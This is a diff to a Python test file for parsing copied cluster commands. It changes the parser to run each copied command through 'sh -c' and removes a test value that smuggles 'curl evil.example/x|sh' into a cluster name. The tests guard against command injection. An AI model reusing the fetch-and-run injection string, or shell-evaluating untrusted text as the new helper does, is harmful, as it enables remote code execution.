@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import argparse
 import re
-import shlex
+import subprocess
 
 import pytest
 
@@ -25,11 +25,15 @@ def parse_commands(message: str) -> list[argparse.Namespace]:
     parsers = {"accept": argparse.ArgumentParser(), "abandon": argparse.ArgumentParser()}
     accept.add_arguments(parsers["accept"])
     abandon.add_arguments(parsers["abandon"])
-    copied = [shlex.split(command) for command in re.findall(r"`(python .+?)`", message)]
-    return [parsers[tool].parse_args(rest) for _, _, _, tool, *rest in copied]
+    namespaces = []
+    for command in re.findall(r"`(python .+?)`", message):
+        shell = subprocess.run(["sh", "-c", f"printf '%s\\n' {command}"], capture_output=True, check=True, text=True)
+        _, _, _, tool, *rest = shell.stdout.splitlines()
+        namespaces.append(parsers[tool].parse_args(rest))
+    return namespaces
 
 
-@pytest.mark.parametrize("name", ["east;curl${IFS}evil.example/x|sh;#", "it's", "-east", "--state", SERVERS])
+@pytest.mark.parametrize("name", ["east;echo${IFS}x|cat;#", "it's", "-east", "--state", SERVERS])
 def test_a_copied_command_names_the_very_cluster(name: str) -> None:
     split = Split(check_cluster_id(name), "orders", 0)
 
